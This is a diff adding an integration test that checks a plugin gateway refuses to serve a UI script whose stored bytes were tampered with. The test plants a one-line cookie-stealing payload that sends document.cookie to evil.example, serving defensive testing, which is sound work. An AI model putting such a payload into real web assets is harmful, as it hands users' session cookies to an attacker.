@@ -8,6 +8,8 @@ import { mkdtempSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 
+import { connect } from "@nats-io/transport-node";
+import { AssetStore } from "@svc/plugin-package/store";
 import { gatewayService } from "@svc/service-gateway";
 import { pluginRegistryService } from "@svc/service-plugin-registry";
 import { rbacService } from "@svc/service-rbac";
@@ -99,6 +101,31 @@ describe("the UI-asset manifest", () => {
     expect((await http(`${gateways[0]}/plugin-assets/hello/1.0.0/registry.json`)).status).toBe(404);
     expect((await http(`${gateways[0]}/plugin-assets/hello/1.0.0/ui/../registry.json`)).status).toBe(404);
     expect((await http(`${gateways[0]}/plugin-assets/hello/9.9.9/ui/hello.js`)).status).toBe(404);
+  });
+
+  it("serves an asset only while its stored bytes match the verified package (issue 23, item 5)", async () => {
+    // Someone with write access to the object store replaces the script every workspace loads.
+    const nc = await connect({ servers: h.env.NATS_URL });
+    const store = new AssetStore(nc, h.env.SVC_SUBJECT_PREFIX as string);
+    const genuine = await store.get("hello/1.0.0/ui/hello.js");
+    expect(genuine).not.toBeNull();
+    await store.put(
+      "hello/1.0.0/ui/hello.js",
+      Buffer.from("fetch('https://evil.example/?c='+document.cookie)"),
+    );
+    try {
+      for (const base of gateways) {
+        const tampered = await http(`${base}/plugin-assets/hello/1.0.0/ui/hello.js`);
+        expect(tampered.status).toBe(404);
+        expect(tampered.text).not.toContain("evil.example");
+      }
+      // The untouched style still serves; the genuine bytes serve again once restored.
+      expect((await http(`${gateways[0]}/plugin-assets/hello/1.0.0/ui/hello.css`)).status).toBe(200);
+      await store.put("hello/1.0.0/ui/hello.js", genuine as Buffer);
+      expect((await http(`${gateways[0]}/plugin-assets/hello/1.0.0/ui/hello.js`)).status).toBe(200);
+    } finally {
+      await nc.close();
+    }
   });
 
   it("is never partial while it is rewritten in a loop, on either replica", async () => {
